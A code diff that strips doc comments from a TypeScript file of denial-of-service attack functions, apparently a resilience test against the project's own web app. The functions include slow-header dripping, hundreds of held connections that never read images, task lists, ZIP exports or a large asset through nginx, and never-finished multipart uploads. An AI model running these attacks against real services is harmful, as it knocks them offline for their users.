@@ -19,7 +19,6 @@ function openConnection({ baseUrl }: Target): Socket {
   return socket.on('error', () => undefined);
 }
 
-/** The first lines of a request with the attacker's session. */
 const headOf = ({ baseUrl, headers }: Target, method: string, path: string, more: Record<string, string> = {}) => {
   const all = { Host: new URL(baseUrl).host, ...headers, ...more };
   const lines = Object.entries(all).map(([name, value]) => `${name}: ${value}\r\n`);
@@ -45,20 +44,17 @@ async function holdConnections(target: Target, count: number, text: string, drip
 const holdRequests = (target: Target, count: number, path: string) =>
   holdConnections(target, count, headOf(target, 'GET', path));
 
-/** Requests a large image on many connections and reads none of it. */
 const unreadImages: Attack = async (target) => {
   const closed = await holdRequests(target, 150, `/api/get_image/${target.fileId}`);
   return `150 connections that ask for an image and do not read: ${closed} closed`;
 };
 
-/** Requests a long list on many connections and reads none of it. */
 const unreadLists: Attack = async (target) => {
   const uploads = await uploadSmallFlyers(target);
   const closed = await holdRequests(target, 45, '/api/tasks');
   return `6 uploads of 20 flyers: ${uploads}; 45 connections that ask for all tasks and do not read: ${closed} closed`;
 };
 
-/** Requests the largest file of the web app on many connections and reads none of it. */
 const unreadFileThroughProxy: Attack = async (target) => {
   const folder = join(builtFrontend(), 'assets');
   const sizeOf = (file: string) => statSync(join(folder, file)).size;
@@ -67,7 +63,6 @@ const unreadFileThroughProxy: Attack = async (target) => {
   return `150 connections through nginx that ask for /assets/${largest} and do not read: ${closed} closed`;
 };
 
-/** Opens ZIPs of the account's data on many connections, each with a ticket of its own, and reads none of it. */
 const slowZips: Attack = async (target) => {
   const tickets = new Answers();
   const newTicket = async () => {
@@ -81,7 +76,6 @@ const slowZips: Attack = async (target) => {
   return `12 ZIPs that are not read: tickets ${tickets}; ${closed} closed, the next one ${status}`;
 };
 
-/** Sends one header per second and never completes the request. */
 const slowHeaders: Attack = async (target) => {
   const start = `POST /api/auth/telegram HTTP/1.1\r\nHost: ${new URL(target.baseUrl).host}\r\n`;
   const closed = await holdConnections(target, 300, start, 'X-A: b\r\n');
@@ -95,7 +89,6 @@ const MEGABYTE = Buffer.alloc(1024 * 1024, 'x');
 const PART =
   '--x\r\nContent-Disposition: form-data; name="images"; filename="a.jpg"\r\nContent-Type: image/jpeg\r\n\r\n';
 
-/** Six forms with twenty images of 9 MB each, which are never completed. */
 const openForms: Attack = async (target) => {
   const head = headOf(target, 'POST', `/api/assistants/${target.assistantId}/tasks`, {
     'Content-Type': 'multipart/form-data; boundary=x',
